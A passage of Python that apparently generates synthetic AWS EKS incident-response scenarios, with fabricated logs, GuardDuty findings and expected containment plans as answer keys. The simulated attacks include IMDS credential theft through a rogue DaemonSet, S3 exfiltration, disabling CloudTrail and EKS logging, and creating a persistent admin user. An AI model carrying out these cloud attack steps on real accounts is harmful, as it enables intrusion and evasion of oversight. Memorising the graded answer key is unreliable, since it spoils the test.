    def daemonset(name, ns, created, labels, containers, sa, node_selector=None, count=3):
        spec = {"hostNetwork": True, "tolerations": [{"operator": "Exists"}], "containers": containers, "serviceAccountName": sa}
        if node_selector:
            spec["nodeSelector"] = node_selector
        return {"apiVersion": "apps/v1", "kind": "DaemonSet",
                "metadata": meta(name, ns, created, labels, {"deprecated.daemonset.template.generation": "1"},
                                 extra={"uid": stable_uuid(f"DaemonSet/{ns}/{name}"), "generation": 1}),
                "spec": {"selector": {"matchLabels": labels}, "template": {"metadata": {"labels": labels}, "spec": spec},
                         "updateStrategy": {"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": 1, "maxSurge": 0}}},
                "status": {"currentNumberScheduled": count, "desiredNumberScheduled": count, "numberReady": count,
                           "numberAvailable": count, "updatedNumberScheduled": count, "numberMisscheduled": 0, "observedGeneration": 1}}
    dss = [daemonset("node-exporter", "monitoring", "2025-07-01T09:44:02Z", {"app.kubernetes.io/name": "node-exporter"},
                     nx_containers("v1.8.2"), "node-exporter"),
           daemonset(C["ds"], C["ns"], "2026-04-23T10:14:02Z", {"app.kubernetes.io/name": C["ds"], "app.kubernetes.io/part-of": "kube-ops"},
                     npd_containers(), "default", {"node.kubernetes.io/instance-type": "r6i.2xlarge"}, 2)]
    namespaces = [{"apiVersion": "v1", "kind": "Namespace", "metadata": meta(n, None, c, labels={"kubernetes.io/metadata.name": n}),
                   "spec": {"finalizers": ["kubernetes"]}, "status": {"phase": "Active"}}
                  for n, c in (("analytics", "2025-07-01T09:40:11Z"), ("default", "2025-06-30T08:10:02Z"), ("kube-node-lease", "2025-06-30T08:10:02Z"),
                               ("kube-ops", "2026-04-23T10:13:40Z"), ("kube-public", "2025-06-30T08:10:02Z"), ("kube-system", "2025-06-30T08:10:02Z"),
                               ("monitoring", "2025-07-01T09:44:00Z"))]
    sas = system_serviceaccounts("2025-06-30T08:10:02Z") + [
        M.serviceaccount(C["sa"], C["sa_ns"], "2025-07-01T09:30:12Z"), M.serviceaccount("node-exporter", "monitoring", "2025-07-01T09:44:01Z"),
        M.serviceaccount("spark-history", "analytics", "2025-07-01T09:41:00Z"),
        M.serviceaccount("etl", "analytics", "2025-07-01T09:41:02Z", {"eks.amazonaws.com/role-arn": f"arn:aws:iam::{S().account}:role/{C['etl_role']}"}),
        M.serviceaccount("default", C["ns"], "2026-04-23T10:13:40Z")]
    crbs = M.system_crbs("2025-06-30T08:10:02Z") + [metrics_server_crb("2025-06-30T08:21:40Z"),
                                                     M.crb("argocd-manager-role-binding", "argocd-manager-role", [M.SA(C["sa"], C["sa_ns"])],
                                                           "2025-07-01T09:30:12Z")]
    crbs.sort(key=lambda o: o["metadata"]["name"])
    crs = [{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": meta("argocd-manager-role", None, "2025-07-01T09:30:12Z"),
            "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}, {"nonResourceURLs": ["*"], "verbs": ["*"]}]}]
    nodes = []
    for i, n in enumerate(C["nodes"]):
        nodes.append(M.node_object(n, "euc1-az" + str(i + 1), C["snap"], "v1.31.4-eks-aeac579", "ami-0c1d2e3f4a5b6c7d8"))
    principals = [f"arn:aws:iam::{S().account}:role/{C['node_role']}", f"arn:aws:iam::{S().account}:role/platform-admin"]
    return {"pods.json": k8s_list(pods), "nodes.json": k8s_list(nodes), "daemonsets.json": k8s_list(dss), "namespaces.json": k8s_list(namespaces),
            "serviceaccounts.json": k8s_list(sas), "clusterrolebindings.json": k8s_list(crbs), "clusterroles.json": k8s_list(crs),
            "configmaps-kube-system.json": k8s_list([M.aws_auth(f"arn:aws:iam::{S().account}:role/{C['node_role']}", "2025-06-30T08:18:40Z")]),
            "eks-describe-cluster.json": describe_cluster(C, "1.31", "eks.21", ["0.0.0.0/0"], ["api", "audit", "authenticator"], mode="API",
                                                          tags={"env": "production", "team": "data"}),
            "eks-list-access-entries.json": {"accessEntries": sorted(principals)}}


IE_STEPS = {
    "k8s-enumerate": "the long-lived token of kube-system/argocd-manager (bound to a * * * ClusterRole for the Argo CD hub) used from 203.0.113.60 with kubectl: list namespaces and nodes",
    "k8s-create-namespace": "creates namespace kube-ops",
    "k8s-create-daemonset": "creates DaemonSet kube-ops/node-problem-detector: hostNetwork, nodeSelector r6i.2xlarge (the two Spark nodes), a loop that reads the node role's credentials from IMDS and posts them to 203.0.113.60",
    "k8s-daemonset-pods": "daemon-set-controller creates a pod per matching node (ownerReferences DaemonSet); scheduler binds, kubelets fetch tokens and report them running",
    "runtime-imds-credentials": "Falco on both nodes: Contact EC2 Instance Metadata Service From Container",
    "aws-node-credentials-used": "the node role's sessions i-03c4d5e6f7a8b9c0d and i-04d5e6f7a8b9c0d1e (the nodes' own access keys) used from 203.0.113.61 and 203.0.113.62: GetCallerIdentity, ListBuckets",
    "s3-exfiltration": "CloudTrail data events: ListObjects and GetObject bursts on analytics-exports-583920174635",
    "detect-instance-credentials-outside-aws": "GuardDuty UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS, one per instance",
    "detect-s3-exfiltration": "GuardDuty Exfiltration:S3/AnomalousBehavior on the bucket",
    "lookalike-argocd-sync": "benign: the Argo CD hub (198.51.100.210), through the same argocd-manager service account, rolls out monitoring/node-exporter: a real monitoring DaemonSet whose pods restart on all three nodes",
    "lookalike-etl-reads-bucket": "benign: the ETL job's IRSA role reads the same bucket from the NAT",
    "background": "benign: kubelets, control plane, metrics; the same node role sessions (same access keys) making their usual VPC CNI and ECR calls through the NAT 198.51.100.230",
}


def ie_consistency(docs):
    problems = []
    pods = {p["metadata"]["name"]: p for p in docs["snapshot/pods.json"]["items"]}
    nodes = {n["metadata"]["name"]: n for n in docs["snapshot/nodes.json"]["items"]}
    for name, n in Q["npd_pods"]:
        if pods[name]["spec"]["nodeName"] != n.name or nodes[n.name]["metadata"]["labels"]["node.kubernetes.io/instance-type"] != "r6i.2xlarge":
            problems.append(f"snapshot: {name} not on its Spark node")
    findings = docs["guardduty/findings.json"]["Findings"]
    inst = {f["Resource"].get("InstanceDetails", {}).get("InstanceId") for f in findings} - {None}
    if inst != {n.instance for _, n in Q["npd_pods"]}:
        problems.append("guardduty: the instances named differ from the DaemonSet's nodes")
    return problems


def build_imds_s3_exfil(out):
    ie_world()
    C = Q
    ie_benign()
    ie_attack()
    ie_guardduty()
    audit_background(C, T("07:00:04.602117"), T("11:25:00"), gap=(40, 75))
    cloudtrail_background(C, range(7, 12))
    base = os.path.join(out, "imds-s3-exfil")
    files = {}
    write_ct_s3(base, files, ct_records())
    write_audit_subscription_files(base, files, audit_events(), ["kube-apiserver-audit-0c2e4a6b8d1f43a5c7e9b1d3f5a7c9e0",
                                                                 "kube-apiserver-audit-7d9f1b3a5c2e44b6d8f0a2c4e6b8d0f2"])
    write_guardduty_cli(base, files)
    write_guardduty_eventbridge(base, files)
    write_falco(base, files)
    write_snapshot(base, files, ie_snapshot())
    A, B_, Cn = C["nodes"]
    head = {
        "scenario": "imds-s3-exfil",
        "summary": (f"The long-lived token of service account {C['sa_ns']}/{C['sa']} (cluster-wide * * * for the Argo CD hub) is used "
                    f"from {C['token_ip']} to create namespace {C['ns']} and DaemonSet {C['ns']}/{C['ds']}. Its hostNetwork pods on "
                    f"the two Spark nodes {A.name} and {B_.name} read the node role's credentials from IMDS; those credentials "
                    f"are used from {C['creds_ips'][0]} and {C['creds_ips'][1]} to list and download s3://{C['bucket']} "
                    f"({S().cluster}, {S().account}, {S().region})."),
        "severity": "Critical",
        "severity_criteria": [
            {"level": "Critical", "criterion": "evidence of data exfiltration",
             "evidence": f"GetObject of 8 export files of {C['bucket']} from outside AWS (CloudTrail data events); GuardDuty Exfiltration:S3/AnomalousBehavior"},
            {"level": "Critical", "criterion": "multiple nodes compromised",
             "evidence": "the credentials of both nodes' instance role were taken from IMDS and used outside AWS (Falco on both nodes, GuardDuty InstanceCredentialExfiltration.OutsideAWS for both instances)"},
            {"level": "Critical", "criterion": "unauthorised access to cluster-admin credentials",
             "evidence": "the argocd-manager token (a * * * ClusterRole) used from an unknown address"},
        ],
        "entities": {
            "account": S().account, "region": S().region, "cluster": S().cluster, "cluster_arn": S().cluster_arn,
            "compromised_serviceaccount": f"{C['sa_ns']}/{C['sa']}", "k8s_username": f"system:serviceaccount:{C['sa_ns']}:{C['sa']}",
            "attacker_ips": [C["token_ip"]] + C["creds_ips"], "namespace_created": C["ns"], "workload": f"DaemonSet/{C['ns']}/{C['ds']}",
            "pods": {f"{C['ns']}/{p}": n.name for p, n in C["npd_pods"]},
            "nodes": {A.name: A.instance, B_.name: B_.instance}, "not_compromised_node": {Cn.name: Cn.instance},
            "node_role": f"arn:aws:iam::{S().account}:role/{C['node_role']}",
            "node_sessions": [f"arn:aws:sts::{S().account}:assumed-role/{C['node_role']}/{n.instance}" for n in (A, B_)],
            "node_access_keys": [A.asia, B_.asia], "bucket": C["bucket"],
            "benign_daemonset": "DaemonSet/monitoring/node-exporter",
        },
        "joins": [
            "service account token -> audit user.username from 203.0.113.60 (the Argo CD hub uses the same account from 198.51.100.210)",
            "DaemonSet -> pods (daemon-set-controller, ownerReferences) -> scheduler Binding / nodeName -> nodes -> providerID -> instances",
            "Falco hostname / container -> the pods on both nodes",
            "node role session assumed-role/prod-analytics-node-role/<instance id> -> the instance -> the node (sessionName = instance id); the same access key is used by the node from the NAT and by the attacker from outside",
            "GuardDuty accessKeyDetails + instanceDetails -> the same sessions and instances; s3BucketDetails -> the bucket in the CloudTrail data events' resources",
        ],
        "benign_lookalikes": [
            "the Argo CD hub's own use of the argocd-manager account from 198.51.100.210, rolling out monitoring/node-exporter (a real DaemonSet on all three nodes)",
            "the node role's usual DescribeNetworkInterfaces / GetAuthorizationToken calls with the same keys from the NAT 198.51.100.230",
            "the ETL job's IRSA role reading the same bucket from the NAT",
            "kube-proxy privileged, aws-node and node-exporter hostNetwork",
        ],
        "steps": IE_STEPS,
    }
    expect = {
        "severity": "Critical",
        "criteria": ["critical.data_exfiltration", "critical.multiple_nodes", "critical.cluster_admin"],
        "criteria_not": ["critical.active_exploitation"],
        "affected": [
            {"kind": "service_account", "name": C["sa"], "namespace": C["sa_ns"]},
            {"kind": "workload", "name": C["ds"], "namespace": C["ns"], "attributes": {"kind": "DaemonSet"}},
            {"kind": "pod", "name": C["npd_pods"][0][0], "namespace": C["ns"], "attributes": {"node": A.name}},
            {"kind": "pod", "name": C["npd_pods"][1][0], "namespace": C["ns"], "attributes": {"node": B_.name}},
            {"kind": "node", "name": A.name}, {"kind": "node", "name": B_.name},
            {"kind": "instance", "name": A.instance}, {"kind": "instance", "name": B_.instance},
            {"kind": "iam_role", "name": C["node_role"]},
            {"kind": "s3_bucket", "name": C["bucket"]},
            {"kind": "ip", "name": C["token_ip"]}, {"kind": "ip", "name": C["creds_ips"][0]}, {"kind": "ip", "name": C["creds_ips"][1]},
        ],
        "not_affected": [
            {"kind": "node", "name": Cn.name}, {"kind": "instance", "name": Cn.instance},
            {"kind": "workload", "name": "node-exporter", "namespace": "monitoring"},
            {"kind": "iam_role", "name": C["etl_role"]},
            {"kind": "ip", "name": C["nat"]}, {"kind": "ip", "name": C["argo_ip"]},
        ],
        "plan_args": ["--isolation-sg", C["iso_sg"]],
        "recover_after": ["contain", "eradicate"],
        "plan": [
            {"phase": "contain", "argv": ["aws", "iam", "put-role-policy", "--role-name", C["node_role"]], "blocked": False,
             "why": "revoke the node role's sessions issued before now: the stolen credentials die, the nodes fetch new ones"},
            {"phase": "contain", "argv": ["kubectl", "cordon", A.name], "blocked": False},
            {"phase": "contain", "argv": ["kubectl", "cordon", B_.name], "blocked": False},
            {"phase": "contain", "argv": ["aws", "ec2", "modify-instance-attribute", "--instance-id", A.instance, "--groups", C["iso_sg"]], "blocked": False},
            {"phase": "contain", "argv": ["aws", "ec2", "modify-instance-attribute", "--instance-id", B_.instance, "--groups", C["iso_sg"]], "blocked": False},
            {"any_of": [{"phase": "contain", "argv": ["kubectl", "delete", "serviceaccount", C["sa"]], "flags": {"--namespace": C["sa_ns"]}},
                        {"phase": "contain", "argv": ["kubectl", "delete", "secret", "argocd-manager-token-*"], "flags": {"--namespace": C["sa_ns"]}}],
             "why": "the stolen token must stop working"},
            {"phase": "contain", "argv": ["aws", "eks", "update-cluster-config", "--name", S().cluster, "--resources-vpc-config"], "blocked": False},
            {"phase": "eradicate", "argv": ["kubectl", "delete", "daemonset", C["ds"]], "flags": {"--namespace": C["ns"]}},
        ],
        "plan_not": [
            {"phase": "eradicate", "argv": ["kubectl", "delete", "daemonset", "node-exporter"], "why": "the monitoring DaemonSet is real"},
            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "namespace", "monitoring"]},
            {"phase": "eradicate", "argv": ["iam", "delete-role", "--role-name", C["node_role"]], "why": "the node role existed before and every node needs it"},
            {"phase": "contain", "argv": ["kubectl", "cordon", Cn.name]},
            {"phase": "recover", "argv": ["eks", "update-cluster-config", "*0.0.0.0/0*"]},
        ],
        "plan_order": [
            [{"phase": "eradicate", "argv": ["kubectl", "delete", "daemonset", C["ds"]]},
             {"phase": "eradicate", "argv": ["kubectl", "delete", "pod", C["npd_pods"][0][0]]}],
        ],
    }
    counts = finish_truth(out, "imds-s3-exfil", head, files, expect, ("lookalike-argocd-sync", "lookalike-etl-reads-bucket"))
    return base, files, counts, check(base, os.path.join(out, "imds-s3-exfil.truth.json"), ie_consistency)


# =============================================================================================
# Scenario 5: logging-off (prod-identity, ca-central-1, 2026-04-30)
# =============================================================================================
L = {}
SSO_PATH = "aws-reserved/sso.amazonaws.com/ca-central-1/"


def lo_world():
    new_scenario("logging-off", 20260430, "692581437026", "ca-central-1", "prod-identity", "2026-04-30",
                 ["10.105.100.30", "10.105.101.78"], "0e2b4d6f8a0c2e4b6d8f0a2c4e6a8c0e")
    L.clear()
    C = L
    cluster_common(C, "prod-identity", "v1.32.2-eks-bc803b4", "kubelet/v1.32.1-eks-5d632ec (linux/amd64) kubernetes/5d632ec")
    C["kube_proxy"] = "v1.32.0-minimal-eksbuild.2"
    C["node_role"], C["node_role_id"] = "prod-identity-node-role", "AROAX1RUDP6ZNODEIDN5"
    C["ng"] = "prod-identity-general"
    C["nodes"] = [Node("ip-10-105-6-91.ca-central-1.compute.internal", "10.105.6.91", "i-06f7a8b9c0d1e2f3a", "ca-central-1a",
                       "ASIAX1RUDP6ZIDNNDA01", "2026-04-27T02:10:44Z", C["ng"]),
                  Node("ip-10-105-39-222.ca-central-1.compute.internal", "10.105.39.222", "i-07a8b9c0d1e2f3a4b", "ca-central-1b",
                       "ASIAX1RUDP6ZIDNNDB02", "2026-04-27T02:10:49Z", C["ng"])]
    C["nat"] = "198.51.100.110"
    C["metrics_server"] = ("metrics-server-7f9c6d8b5-r8d3q", C["nodes"][1], "10.105.39.61")
    C["coredns_rs"] = "5d7b8c9f46"
    C["vpc"], C["cluster_sg"] = "vpc-0e7a9c1d3f5b68024", "sg-0f8b0d2e4a6c79135"
    C["subnets"] = {"ca-central-1a": "subnet-0f9b1d3e5a7c80246", "ca-central-1b": "subnet-0a0c2e4f6b8d91357"}
    C["endpoint"] = "https://A1C3E5B7D9F2A4C6E8B0D1F3A5C7E9B2.yl4.ca-central-1.eks.amazonaws.com"
    C["oidc"] = "A1C3E5B7D9F2A4C6E8B0D1F3A5C7E9B2"
    C["created"] = "2025-09-22T15:40:02.911000+00:00"
    C["sso"], C["sso_id"] = "AWSReservedSSO_AdministratorAccess_3c1d5e7f9a2b4c6d", "AROAX1RUDP6ZSSOADM0A"
    C["sso_arn"] = f"arn:aws:iam::{S().account}:role/{SSO_PATH}{C['sso']}"
    C["victim"], C["stolen_key"] = "m.chen@example.com", "ASIAX1RUDP6ZMCHEN7K4"
    C["colleague"], C["colleague_key"] = "a.okafor@example.com", "ASIAX1RUDP6ZOKAFOR22"
    C["victim_ip"], C["colleague_ip"], C["ci_ip"] = "192.0.2.23", "192.0.2.17", "198.51.100.101"
    C["attacker_ip"], C["persist_ip"] = "203.0.113.140", "203.0.113.141"
    C["trail"] = "prod-identity-trail"
    C["trail_arn"] = f"arn:aws:cloudtrail:{S().region}:{S().account}:trail/{C['trail']}"
    C["new_user"], C["new_user_id"], C["new_key"] = "svc-metrics-reader", "AIDAX1RUDP6ZMETRICS9Q", "AKIAX1RUDP6ZW4MT8QRE"
    C["ci_role"], C["ci_role_id"] = "prod-ci-release", "AROAX1RUDP6ZCIREL0B7"
    C["ci_role_desc"] = "Release pipeline role, created by platform-team with Terraform; do not delete"
    C["tf_role"], C["tf_role_id"] = "github-actions-terraform", "AROAX1RUDP6ZTFORM3C1"
    C["hijack_session"], C["hijack_key"] = "release-hotfix-2104", "ASIAX1RUDP6ZHOTFIX55"
    C["orig_cidrs"] = ["192.0.2.0/25", "198.51.100.96/27"]
    C["snap"] = T("23:10:00")
    C["audit_off"] = T("21:20:41")
    C["selectors_at"] = T("21:18:44")


def lo_sso_ident(session, key, created, ip_extra=None):
    C = L
    return M.id_role(C["sso"], C["sso_id"], session, key, created, path=SSO_PATH)


def lo_k8s_user(session, key):
    C = L
    uname = f"arn:aws:sts::{S().account}:assumed-role/{C['sso']}/{session}"
    return u_role(uname, [], S().account, C["sso"], C["sso_id"], session, key), uname


def lo_iam(t, ident, name, params, resp=None, ip=None, ua=None, label="attack", step=None, ro=False):
    r = ct(t, ident, "iam.amazonaws.com", name, params=params, resp=resp, ip=ip, ua=ua, read_only=ro, label=label, step=step)
    r["awsRegion"] = "us-east-1"
    return r


def lo_benign():
    C = L
    mac = cli_ua("eks.describe-cluster", "2.22.4", "3.12.6", "Darwin/24.3.0", "arm64")
    # 08:12 Terraform keeps the CI role's description (a role the attacker will assume; its text says "created")
    oidc = f"arn:aws:iam::{S().account}:oidc-provider/token.actions.githubusercontent.com"
    t = T("08:12:20")
    key = M.web_identity_assume(t, C["tf_role"], C["tf_role_id"], "GitHubActions", oidc, "repo:identity-org/platform-infra:environment:production",
                                "sts.amazonaws.com", C["ci_ip"], M.GHA_UA.format(api="sts"), "lookalike-terraform-ci-role")
    tf = M.id_role(C["tf_role"], C["tf_role_id"], "GitHubActions", key, t, {"webIdFederationData": {"federatedProvider": oidc, "attributes": {}}})
    lo_iam(t + timedelta(seconds=31), tf, "UpdateRole", {"roleName": C["ci_role"], "description": C["ci_role_desc"], "maxSessionDuration": 3600},
           ip=C["ci_ip"], ua=M.TF_UA.format(api="iam#1.31.0"), label="benign", step="lookalike-terraform-ci-role")
    # 09:31 a colleague's routine reads from the office, including the trail's status
    ident = lo_sso_ident(C["colleague"], C["colleague_key"], T("09:28:57"))
    for dt, src, name, params in ((0, "eks.amazonaws.com", "DescribeCluster", {"name": S().cluster}),
                                  (9, "eks.amazonaws.com", "ListNodegroups", {"name": S().cluster, "maxResults": 100}),
                                  (41, "cloudtrail.amazonaws.com", "DescribeTrails", {"includeShadowTrails": False}),
                                  (48, "cloudtrail.amazonaws.com", "GetTrailStatus", {"name": C["trail_arn"]})):
        ct(T("09:31:02") + timedelta(seconds=dt), ident, src, name, params=params, ip=C["colleague_ip"], ua=mac, step="lookalike-admin-reads")
    user, uname = lo_k8s_user(C["colleague"], C["colleague_key"])
    reason = policy_reason(f"arn:aws:iam::{S().account}:role/{C['sso']}", uname)
    audit(T("09:32:40.201884"), user, "list", "/api/v1/namespaces/identity/pods?limit=500", oref("pods", "identity"), level="Request",
          ua="kubectl/v1.32.3 (darwin/arm64) kubernetes/32cc146", src=[C["colleague_ip"]], reason=reason, step="lookalike-admin-reads")
    # 11:40 the release pipeline uses the CI role as usual
    t = T("11:40:05")
    key = M.web_identity_assume(t, C["ci_role"], C["ci_role_id"], "GitHubActions", oidc, "repo:identity-org/identity-api:environment:production",
                                "sts.amazonaws.com", C["ci_ip"], M.GHA_UA.format(api="sts"), "lookalike-ci-release")
    ci = M.id_role(C["ci_role"], C["ci_role_id"], "GitHubActions", key, t, {"webIdFederationData": {"federatedProvider": oidc, "attributes": {}}})
    ct(t + timedelta(seconds=7), ci, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=C["ci_ip"],
       ua=M.GHA_UA.format(api="eks"), step="lookalike-ci-release")
    # 13:05 the victim's own work, with the very session whose credentials are later stolen
    ident = lo_sso_ident(C["victim"], C["stolen_key"], T("13:02:11"))
    ct(T("13:05:44"), ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=C["victim_ip"],
       ua=mac.replace("eks.describe-cluster", "eks.update-kubeconfig"), step="lookalike-victim-own-work")
    user, uname = lo_k8s_user(C["victim"], C["stolen_key"])
    reason = policy_reason(f"arn:aws:iam::{S().account}:role/{C['sso']}", uname)
    kd = "kubectl/v1.32.3 (darwin/arm64) kubernetes/32cc146"
    audit(T("13:06:12.551208"), user, "list", "/apis/apps/v1/namespaces/identity/deployments?limit=500", oref("deployments", "identity", group="apps"),
          level="Request", ua=kd, src=[C["victim_ip"]], reason=reason, step="lookalike-victim-own-work")
    audit(T("13:06:30.018774"), user, "get", "/apis/apps/v1/namespaces/identity/deployments/identity-api",
          oref("deployments", "identity", "identity-api", "apps"), level="Request", ua=kd, src=[C["victim_ip"]], reason=reason,
          step="lookalike-victim-own-work")


def lo_attack():
    C = L
    ident = lo_sso_ident(C["victim"], C["stolen_key"], T("13:02:11"))
    ua = lambda cmd: cli_ua(cmd, "2.22.4", "3.12.6", "Linux/6.11.2-amd64", "x86_64.kali.2025")
    A = dict(ip=C["attacker_ip"], label="attack")
    ct(T("21:14:03"), ident, "sts.amazonaws.com", "GetCallerIdentity", params=None, ua=ua("sts.get-caller-identity"), step="aws-recon", **A)
    ct(T("21:14:40"), ident, "cloudtrail.amazonaws.com", "DescribeTrails", params={"includeShadowTrails": True},
       ua=ua("cloudtrail.describe-trails"), step="aws-recon", **A)
    ct(T("21:14:52"), ident, "cloudtrail.amazonaws.com", "GetTrailStatus", params={"name": C["trail_arn"]},
       ua=ua("cloudtrail.get-trail-status"), step="aws-recon", **A)
    ct(T("21:15:20"), ident, "eks.amazonaws.com", "ListClusters", params={"maxResults": 100}, ua=ua("eks.list-clusters"), step="aws-recon", **A)
    ct(T("21:15:31"), ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ua=ua("eks.update-kubeconfig"),
       step="aws-recon", **A)
    user, uname = lo_k8s_user(C["victim"], C["stolen_key"])
    K = dict(user=user, src=[C["attacker_ip"]], ua="kubectl/v1.32.1 (linux/amd64) kubernetes/e9c9be4",
             reason=policy_reason(f"arn:aws:iam::{S().account}:role/{C['sso']}", uname), label="attack")
    audit(T("21:16:08.402915"), verb="list", uri="/api/v1/secrets?limit=500", objref=oref("secrets"), step="k8s-list-secrets", **K)
    audit(T("21:16:22.771304"), verb="get", uri="/api/v1/namespaces/identity/secrets/oidc-signing-keys",
          objref=oref("secrets", "identity", "oidc-signing-keys"), step="k8s-read-secret", **K)
    sel = [{"readWriteType": "ReadOnly", "includeManagementEvents": True, "dataResources": [], "excludeManagementEventSources": []}]
    ct(C["selectors_at"], ident, "cloudtrail.amazonaws.com", "PutEventSelectors", params={"trailName": C["trail"], "eventSelectors": sel},
       resp={"trailARN": C["trail_arn"], "eventSelectors": sel}, ua=ua("cloudtrail.put-event-selectors"), read_only=False,
       step="aws-blind-cloudtrail", **A)
    ct(T("21:19:02"), ident, "cloudtrail.amazonaws.com", "StopLogging", params={"name": C["trail_arn"]}, ua=ua("cloudtrail.stop-logging"),
       read_only=False, step="aws-stop-cloudtrail", **A)
    off = [{"types": ["api", "audit", "authenticator"], "enabled": False}]
    ct(T("21:20:15"), ident, "eks.amazonaws.com", "UpdateClusterConfig", params={"name": S().cluster, "logging": {"clusterLogging": off}},
       resp={"update": {"id": stable_uuid("upd-logging"), "status": "InProgress", "type": "LoggingUpdate",
                        "params": [{"type": "ClusterLogging", "value": json.dumps({"clusterLogging": off}, separators=(",", ":"))}],
                        "createdAt": "2026-04-30T21:20:15.402000Z", "errors": []}},
       ua=ua("eks.update-cluster-config"), read_only=False, step="aws-disable-control-plane-logging", **A)
    ct(T("21:22:30"), ident, "eks.amazonaws.com", "UpdateClusterConfig",
       params={"name": S().cluster, "resourcesVpcConfig": {"endpointPublicAccess": True, "publicAccessCidrs": ["0.0.0.0/0"]}},
       resp={"update": {"id": stable_uuid("upd-endpoint"), "status": "InProgress", "type": "EndpointAccessUpdate",
                        "params": [{"type": "EndpointPublicAccess", "value": "true"}, {"type": "PublicAccessCidrs", "value": "[\"0.0.0.0/0\"]"}],
                        "createdAt": "2026-04-30T21:22:30.118000Z", "errors": []}},
       ua=ua("eks.update-cluster-config"), read_only=False, step="aws-open-endpoint", **A)
    t = T("21:25:02")
    lo_iam(t, ident, "CreateUser", {"userName": C["new_user"]},
           {"user": {"path": "/", "userName": C["new_user"], "userId": C["new_user_id"], "arn": f"arn:aws:iam::{S().account}:user/{C['new_user']}",
                     "createDate": M.iam_date(t)}}, ua=ua("iam.create-user"), step="aws-persistence-user", **A)
    t = T("21:25:20")
    lo_iam(t, ident, "CreateAccessKey", {"userName": C["new_user"]},
           {"accessKey": {"userName": C["new_user"], "accessKeyId": C["new_key"], "status": "Active", "createDate": M.iam_date(t)}},
           ua=ua("iam.create-access-key"), step="aws-persistence-user", **A)
    lo_iam(T("21:25:41"), ident, "AttachUserPolicy", {"userName": C["new_user"], "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
           ua=ua("iam.attach-user-policy"), step="aws-persistence-user", **A)
    t = T("21:27:13")
    role_arn = f"arn:aws:iam::{S().account}:role/{C['ci_role']}"
    ct(t, ident, "sts.amazonaws.com", "AssumeRole", params={"roleArn": role_arn, "roleSessionName": C["hijack_session"], "durationSeconds": 3600},
       resp={"credentials": {"accessKeyId": C["hijack_key"], "sessionToken": M.fake_session_token(), "expiration": M.iam_date(t + timedelta(hours=1))},
             "assumedRoleUser": {"assumedRoleId": f"{C['ci_role_id']}:{C['hijack_session']}",
                                 "arn": f"arn:aws:sts::{S().account}:assumed-role/{C['ci_role']}/{C['hijack_session']}"}},
       ua=ua("sts.assume-role"), resources=[{"accountId": S().account, "type": "AWS::IAM::Role", "ARN": role_arn}],
       step="aws-assume-ci-role", **A)
    hj = M.id_role(C["ci_role"], C["ci_role_id"], C["hijack_session"], C["hijack_key"], t)
    ct(T("21:28:40"), hj, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ua=ua("eks.describe-cluster"),
       step="aws-ci-role-used", **A)
    ct(T("21:29:05"), hj, "eks.amazonaws.com", "ListAccessEntries", params={"name": S().cluster, "maxResults": 100},
       ua=ua("eks.list-access-entries"), step="aws-ci-role-used", **A)
    ct(T("21:29:31"), hj, "ecr.amazonaws.com", "DescribeRepositories", params={"maxResults": 100}, ua=ua("ecr.describe-repositories"),
       step="aws-ci-role-used", **A)
    nk = id_user(C["new_user"], C["new_user_id"], C["new_key"])
    boto = ("Boto3/1.35.36 md/Botocore#1.35.36 ua/2.0 os/linux#6.11.2-amd64 md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython "
            "cfg/retry-mode#legacy Botocore/1.35.36")
    ct(T("21:31:05"), nk, "sts.amazonaws.com", "GetCallerIdentity", params=None, ip=C["persist_ip"], ua=boto, label="attack",
       step="aws-new-key-used")
    ct(T("21:31:30"), nk, "s3.amazonaws.com", "ListBuckets", params={"Host": f"s3.{S().region}.amazonaws.com"}, ip=C["persist_ip"], ua=boto,
       label="attack", step="aws-new-key-used")


def lo_guardduty():
    C = L
    geo = lambda ip: {"ipAddressV4": ip, "organization": {"asn": "64499", "asnOrg": "EXAMPLE-VPN", "isp": "Example VPN", "org": "Example VPN"},
                      "country": {"countryName": "Canada"}, "city": {"cityName": "Toronto"}, "geoLocation": {"lat": 43.65, "lon": -79.38}}
    res = {"resourceType": "AccessKey", "accessKeyDetails": {"accessKeyId": C["stolen_key"], "principalId": f"{C['sso_id']}:{C['victim']}",
                                                             "userName": C["sso"], "userType": "AssumedRole"}}
    finding("6a8c0e2b4d6f8a0c2e4b6d8f0a2c4e6b", "Stealth:IAMUser/CloudTrailLoggingDisabled", 2,
            "AWS CloudTrail trail prod-identity-trail was disabled.",
            f"The AWS CloudTrail trail {C['trail']} was disabled by {C['sso']} calling StopLogging under unusual circumstances.",
            json.loads(json.dumps(res)),
            M.service_block(T("21:19:02"), T("21:19:02"), 1, {"actionType": "AWS_API_CALL", "awsApiCallAction": {
                "api": "StopLogging", "serviceName": "cloudtrail.amazonaws.com", "callerType": "Remote IP", "remoteIpDetails": geo(C["attacker_ip"]),
                "affectedResources": {"AWS::CloudTrail::Trail": C["trail"]}}}),
            T("21:24:51.330"), T("21:24:51.330"), step="detect-cloudtrail-disabled")
    finding("8c0e2b4d6f8a0c2e4b6d8f0a2c4e6a8d", "Persistence:IAMUser/AnomalousBehavior", 5,
            "The API CreateAccessKey was used to gain persistence in an unusual way.",
            f"APIs commonly used in Persistence tactics were invoked by {C['sso']} ({C['victim']}) in an unusual way: CreateUser, CreateAccessKey.",
            json.loads(json.dumps(res)),
            M.service_block(T("21:25:02"), T("21:25:41"), 3, {"actionType": "AWS_API_CALL", "awsApiCallAction": {
                "api": "CreateAccessKey", "serviceName": "iam.amazonaws.com", "callerType": "Remote IP", "remoteIpDetails": geo(C["attacker_ip"]),
                "affectedResources": {"AWS::IAM::User": C["new_user"]}}}),
            T("21:33:10.064"), T("21:33:10.064"), step="detect-persistence")


def lo_snapshot():
    C = L
    pods = system_pod_objects(C, T("02:14:40", "2026-04-27"), ["10.105.6.120", "10.105.39.140"])
    img = f"{S().account}.dkr.ecr.ca-central-1.amazonaws.com/identity-api:2026.04.28-1"
    for i, n in enumerate(C["nodes"]):
